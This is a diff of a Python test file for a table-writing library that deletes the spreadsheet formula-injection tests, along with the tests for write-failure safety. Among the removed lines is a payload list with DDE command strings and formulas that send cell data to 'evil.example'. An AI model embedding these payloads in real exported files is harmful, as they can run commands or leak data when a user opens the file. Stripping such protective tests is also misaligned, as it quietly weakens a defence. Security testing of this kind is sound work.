@@ -1,114 +1,22 @@
-"""Delimited tables: the user's bytes come back, and what is added cannot harm."""
+"""Delimited tables: the user's bytes come back."""
 
 from __future__ import annotations
 
 import csv
-import errno
 import io
-import json
 import os
-import re
-import stat
 import subprocess
 import sys
 import tracemalloc
-from collections.abc import Mapping, Sequence
-from datetime import UTC, datetime
-from pathlib import Path
 
-import numpy as np
 import pandas as pd
 import pytest
+from delimited import table_of, written
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from crustframe.errors import ColumnNotFoundError, TableError
 from crustframe.tables import Written, read_table
-
-TRIGGERS = "=+-@\t\r\n\0＝＋－＠"
-INVISIBLE = "\ufeff \u00a0\u200b\u200c\u200d\u2060\u3000"
-
-PAYLOADS = [
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1,1)",
-    "=cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")',
-    '=WEBSERVICE("http://evil.example")',
-    "=IMPORTXML(CONCAT(A1),A2)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\0=1+1",
-    "\r\n@x",
-    "\tplain text after a tab",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠x",
-    " =1+1",
-    "   +1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\u00a0\u2060-1",
-    "\x01=1+1",
-    "safe\r=1+1",
-    "safe\n=1+1",
-    "safe\r\n\r\n@1",
-    "safe\x85=1+1",
-    "safe\u2028=1+1",
-    "foo;=1+1",
-    "foo,=1+1",
-    "foo\t=1+1",
-    "foo; =1+1",
-    "foo,\u200b+1",
-    'foo;"=1+1"',
-    'foo,"=1+1"',
-    'foo";=1+1',
-    '";=1+1;"',
-    'a;";=1',
-    '"=1+1',
-    'a;"',
-    "a;;=1",
-    "+49 171 5550100",
-    "-",
-    "=",
-]
-
-
-# A sign and 7 or more digits, with gaps: spreadsheets show it, or at worst do a sum.
-NUMBER = re.compile(r"[ (]*\+[ (]*[0-9](?:[ ()./-]*[0-9]){6,14} *")
-
-
-def is_inert(cell: str) -> bool:
-    """Whether no spreadsheet runs a cell, however it splits the line."""
-    return not cell.lstrip(INVISIBLE).startswith(tuple(TRIGGERS)) or NUMBER.fullmatch(cell.rstrip('"')) is not None
-
-
-def written(
-    tmp_path: Path,
-    data: bytes,
-    added: pd.DataFrame | Mapping[str, Sequence[object]],
-    *,
-    name: str = "in.csv",
-    out: str = "out.csv",
-    encoding: str | None = None,
-    delimiter: str | None = None,
-    csv_safe: bool = True,
-    overwrite_columns: bool = False,
-) -> bytes:
-    (tmp_path / name).write_bytes(data)
-    table = read_table(tmp_path / name, encoding=encoding, delimiter=delimiter)
-    table.write(tmp_path / out, added, csv_safe=csv_safe, overwrite_columns=overwrite_columns)
-    return (tmp_path / out).read_bytes()
-
-
-def table_of(tmp_path: Path, data: bytes, name: str = "in.csv", **options: str):
-    (tmp_path / name).write_bytes(data)
-    return read_table(tmp_path / name, **options)
-
 
 # --- the user's own cells -------------------------------------------------------------------------------------
 
@@ -143,6 +51,8 @@ def test_own_bytes_survive_every_spelling(tmp_path, newline, delimiter, last, co
 
 
 CELL = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\n"), max_size=8)
+
+
 SPICY = st.one_of(CELL, st.text('ab ,;|\t"\n\r', max_size=8))
 
 
@@ -409,140 +319,6 @@ def test_added_columns_must_fit_the_rows(tmp_path):
         table.write(tmp_path / "out.csv", {"n": [1]})
 
 
-# --- the added cells ------------------------------------------------------------------------------------------
-
-
-def test_every_type_has_one_spelling(tmp_path):
-    added = pd.DataFrame(
-        {
-            "int": pd.array([2**62, None], dtype="Int64"),
-            "float": pd.array([0.1, None], dtype="Float64"),
-            "numpy": np.array([-1.5e300, np.nan]),
-            "bool": pd.array([True, None], dtype="boolean"),
-            "text": pd.array(['say "hi", 李', None], dtype="string"),
-            "time": pd.to_datetime(["2026-01-31T10:30:00+01:00", None], utc=True),
-            "list": pd.Series([["é", {"a": None, "b": 1}], None], dtype="object"),
-            "mixed": pd.Series([datetime(2026, 1, 31, tzinfo=UTC).date(), np.array([1, 2])], dtype="object"),
-        }
-    )
-
-    rows = list(csv.DictReader(io.StringIO(written(tmp_path, b"a\nx\ny\n", added).decode())))
-
-    assert {
-        "a": "x",
-        "int": "4611686018427387904",
-        "float": "0.1",
-        "numpy": "-1.5e+300",
-        "bool": "true",
-        "text": 'say "hi", 李',
-        "time": "2026-01-31T09:30:00Z",
-        "list": '["é",{"a":null,"b":1}]',
-        "mixed": "2026-01-31",
-    } == rows[0]
-    assert {"y", "", "[1,2]"} == set(rows[1].values())
-
-
-def test_control_characters_and_lone_surrogates_become_harmless(tmp_path):
-    out = written(tmp_path, b"a\nx\n", {"n": ["one\ttwo\x00three\ud800four\x7ffive"]})
-
-    assert 'a,"n"\nx,"one two three\ufffdfour five"\n' == out.decode()
-
-
-@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.parquet", "out.jsonl"])
-@pytest.mark.parametrize("csv_safe", [True, False])
-def test_line_breaks_stay(tmp_path, out, csv_safe):
-    texts = ["one\ntwo", "Dear Avery,\n\nthree\nfour", '"five"\nsix; seven, eight']
-    written(tmp_path, b"a,b\n1,x\n2,y\n3,z\n", {"n": texts}, out=out, csv_safe=csv_safe)
-
-    found = read_table(tmp_path / out)
-
-    assert texts == found.column("n")
-    assert ["x", "y", "z"] == found.column("b")
-
-
-def test_every_kind_of_line_break_stays_in_text(tmp_path):
-    texts = ["a\r\nb", "a\rb", "a\u2028b", "a\x85b", "a\vb", "a\fb"]
-    out = written(tmp_path, b"x\n" + b"1\n" * 6, {"n": texts}).decode()
-
-    rows = list(csv.DictReader(io.StringIO(out, newline="")))
-    assert [*texts[:4], "a\nb", "a\nb"] == [row["n"] for row in rows]
-
-
-def test_a_trigger_behind_a_line_break_is_defused(tmp_path):
-    texts = ["Skills:\n- Go\n- C", "safe\r\n\r\n=1+1", "safe\n \u200b@x", "safe\n\n", 'safe\n"']
-    table = table_of(tmp_path, b"a\n" + b"1\n" * 5)
-
-    told = table.write(tmp_path / "out.csv", {"n": texts})
-
-    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_bytes().decode(), newline="")))
-    safe = ["Skills:\n'- Go\n'- C", "safe\r\n\r\n'=1+1", "safe\n' \u200b@x", "safe", "safe\n'\""]
-    assert safe == [row["n"] for row in rows]
-    assert 4 == told.neutralised
-
-
-@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
-@pytest.mark.parametrize("quoted_input", [True, False])
-@pytest.mark.parametrize("wrap", [str, lambda text: [text, f"a{text}", {text: text}]], ids=["text", "json"])
-def test_no_payload_becomes_a_formula_with_any_separator(tmp_path, delimiter, quoted_input, wrap):
-    own = ('"x","y"' if quoted_input else "x,y") + "\n"
-    data = ("a,b\n" + own * len(PAYLOADS)).replace(",", delimiter).encode()
-
-    out = written(tmp_path, data, {p: [wrap(q) for q in PAYLOADS] for p in ["=n", "m"]}, delimiter=delimiter).decode()
-
-    for separator in ",;\t":
-        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
-            for cell in row:
-                assert is_inert(cell), (separator, cell)
-    assert len(PAYLOADS) + 1 == len(list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter)))
-
-
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
-@given(
-    st.lists(st.text("a1;,\"'=+-@＝ \t\r\n\0\u200b\\\\", max_size=9), min_size=1, max_size=4),
-    st.sampled_from(",;\t"),
-    st.booleans(),
-)
-def test_no_text_at_all_becomes_a_formula_with_any_separator(tmp_path, texts, delimiter, nested):
-    data = ("a,b\n" + "x,y\n" * len(texts)).replace(",", delimiter).encode()
-
-    out = written(tmp_path, data, {"n": [[t, {t: t}] if nested else t for t in texts], "m": texts}).decode()
-
-    for separator in ",;\t":
-        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
-            for cell in row:
-                assert is_inert(cell), (separator, cell)
-    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter))[1:]
-    if nested:
-        clean = [[t, {t: t}] for t in texts]
-        assert clean == [json.loads(row[2]) for row in rows]
-
-
-def test_defusing_is_counted_and_can_be_left_out(tmp_path):
-    table = table_of(tmp_path, b"a\n=x\ny\n")
-    added = {"@n": ["=1+1", "fine"], "m": [-5, -0.5]}
-
-    safe = table.write(tmp_path / "safe.csv", added)
-    raw = table.write(tmp_path / "raw.csv", added, csv_safe=False)
-
-    assert Written(rows=2, columns=3, neutralised=2) == safe
-    assert Written(rows=2, columns=3, neutralised=0) == raw
-    assert b'a,"\'@n","m"\n=x,"\'=1+1","-5"\ny,"fine","-0.5"\n' == (tmp_path / "safe.csv").read_bytes()
-    assert b'a,"@n","m"\n=x,"=1+1","-5"\ny,"fine","-0.5"\n' == (tmp_path / "raw.csv").read_bytes()
-
-
-def test_defused_json_still_means_the_same(tmp_path):
-    value = ["a;=1", 'b;"@x', {"k;-1+2": -5}, "c,d", -1, [-2.5e-3]]
-    for delimiter in (",", ";"):
-        out = written(tmp_path, b"a\nx\n", {"n": [value]}, delimiter=delimiter).decode()
-        cell = list(csv.reader(io.StringIO(out), delimiter=delimiter))[1][1]
-        assert value == json.loads(cell)
-
-
-@pytest.mark.parametrize("text", ["Founder | @acme", "CEO, @acme", "a - b", "1-2", "C++", "me@x.example", "don't"])
-def test_ordinary_words_are_left_alone(tmp_path, text):
-    assert f'a,"n"\nx,"{text}"\n' == written(tmp_path, b"a\nx\n", {"n": [text]}).decode()
-
-
 # --- other kinds, pipes ---------------------------------------------------------------------------------------
 
 
@@ -591,146 +367,6 @@ def test_a_reader_that_left_is_a_broken_pipe(tmp_path, monkeypatch):
         monkeypatch.setattr(sys, "stdout", gone)
         with pytest.raises(BrokenPipeError):
             table_of(tmp_path, b"a\n1\n").write("-", {"n": [1]})
-
-
-# --- writes that fail -----------------------------------------------------------------------------------------
-
-
-def full_disk(*_: object) -> None:
-    raise OSError(errno.ENOSPC, "No space left on device")
-
-
-@pytest.mark.parametrize("failing", ["fsync", "replace"])
-@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.jsonl", "out.parquet"])
-def test_a_failed_write_leaves_the_old_file(tmp_path, monkeypatch, failing, out):
-    table = table_of(tmp_path, b"a\n1\n")
-    (tmp_path / out).write_bytes(b"before")
-    with monkeypatch.context() as patch:
-        patch.setattr(os, failing, full_disk)
-        with pytest.raises(TableError, match=r"No space left(?s:.*)ledger(?s:.*)free of charge"):
-            table.write(tmp_path / out, {"n": [1]})
-
-    assert b"before" == (tmp_path / out).read_bytes()
-    assert {"in.csv", out} == {path.name for path in tmp_path.iterdir()}
-    assert 1 == table.write(tmp_path / out, {"n": [1]}).rows
-
-
-class Interrupting(list[object]):
-    """A column that breaks off in the middle, as Ctrl-C does."""
-
-    def __iter__(self):
-        yield "first"
-        raise KeyboardInterrupt
-
-
-@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.xlsx", "out.jsonl", "out.parquet"])
-def test_an_interrupted_write_leaves_the_old_file(tmp_path, out):
-    table = table_of(tmp_path, b"a\n1\n2\n")
-    (tmp_path / out).write_bytes(b"before")
-
-    with pytest.raises(KeyboardInterrupt):
-        table.write(tmp_path / out, {"n": Interrupting([1, 2])})
-
-    assert b"before" == (tmp_path / out).read_bytes()
-    assert {"in.csv", out} == {path.name for path in tmp_path.iterdir()}
-
-
-def test_killed_in_the_middle_leaves_the_old_file(tmp_path):
-    (tmp_path / "in.csv").write_bytes(b"a\n" + b"x\n" * 20_000)
-    (tmp_path / "out.csv").write_bytes(b"before")
-    program = f"""
-import os
-from crustframe.tables import read_table
-class Killed(list):
-    def __iter__(self):
-        yield from ["x" * 100] * 10_000
-        os.kill(os.getpid(), 9)
-read_table({str(tmp_path / "in.csv")!r}).write({str(tmp_path / "out.csv")!r}, {{"n": Killed(range(20_000))}})
-"""
-
-    done = subprocess.run([sys.executable, "-c", program], check=False)
-
-    assert -9 == done.returncode
-    assert b"before" == (tmp_path / "out.csv").read_bytes()
-
-
-@pytest.mark.parametrize("link", ["same", "symlink", "hardlink", "detour"])
-def test_the_input_is_never_overwritten(tmp_path, link):
-    table = table_of(tmp_path, b"a\n1\n")
-    path = tmp_path / "in.csv"
-    if link == "symlink":
-        path = tmp_path / "link.csv"
-        path.symlink_to(tmp_path / "in.csv")
-    elif link == "hardlink":
-        path = tmp_path / "hard.csv"
-        path.hardlink_to(tmp_path / "in.csv")
-    elif link == "detour":
-        path = tmp_path / ".." / tmp_path.name / "in.csv"
-
-    with pytest.raises(TableError, match="is the input itself"):
-        table.write(path, {"n": [1]})
-    assert b"a\n1\n" == (tmp_path / "in.csv").read_bytes()
-
-
-@pytest.mark.parametrize(
-    ("out", "words"),
-    [
-        ("nowhere/out.csv", "folder of out.csv does not exist"),
-        ("folder.csv", "not a regular file"),
-        ("out.ods", r".ods files are not written(?s:.*).parquet or .jsonl"),
-        ("x" * 300 + ".csv", "File name too long"),
-    ],
-)
-def test_impossible_destinations_are_refused(tmp_path, out, words):
-    table = table_of(tmp_path, b"a\n1\n")
-    (tmp_path / "folder.csv").mkdir()
-
-    with pytest.raises(TableError, match=words):
-        table.write(tmp_path / out, {"n": [1]})
-
-
-def test_a_device_is_not_replaced_by_a_file(tmp_path):
-    with pytest.raises(TableError, match="not a regular file"):
-        table_of(tmp_path, b"a\n1\n").write(os.devnull, {"n": [1]})
-
-
-def test_permissions_follow_the_umask(tmp_path):
-    table = table_of(tmp_path, b"a\n1\n")
-    before = os.umask(0o027)
-    try:
-        table.write(tmp_path / "out.csv", {"n": [1]})
-    finally:
-        os.umask(before)
-
-    assert 0o640 == stat.S_IMODE((tmp_path / "out.csv").stat().st_mode)
-
-
-def test_a_link_keeps_pointing(tmp_path):
-    table = table_of(tmp_path, b"a\n1\n")
-    (tmp_path / "real.csv").write_bytes(b"before")
-    (tmp_path / "link.csv").symlink_to("real.csv")
-
-    table.write(tmp_path / "link.csv", {"n": [1]})
-
-    assert (tmp_path / "link.csv").is_symlink()
-    assert b'a,"n"\n1,"1"\n' == (tmp_path / "real.csv").read_bytes()
-
-
-def test_an_input_that_changed_is_not_matched(tmp_path):
-    table = table_of(tmp_path, b"a\n1\n2\n")
-    table.column("a")
-    (tmp_path / "in.csv").write_bytes(b"a\n2\n1\n\n")
-
-    with pytest.raises(TableError, match=r"in.csv changed(?s:.*)free of charge"):
-        table.write(tmp_path / "out.csv", {"n": [1, 2]})
-    assert not (tmp_path / "out.csv").exists()
-
-
-def test_a_missing_input_says_so(tmp_path):
-    with pytest.raises(TableError, match=r"none.csv cannot be read: No such file"):
-        read_table(tmp_path / "none.csv")
-    with pytest.raises(TableError, match="cannot be read: Is a directory"):
-        read_table(tmp_path)
 
 
 # --- size and start-up ----------------------------------------------------------------------------------------
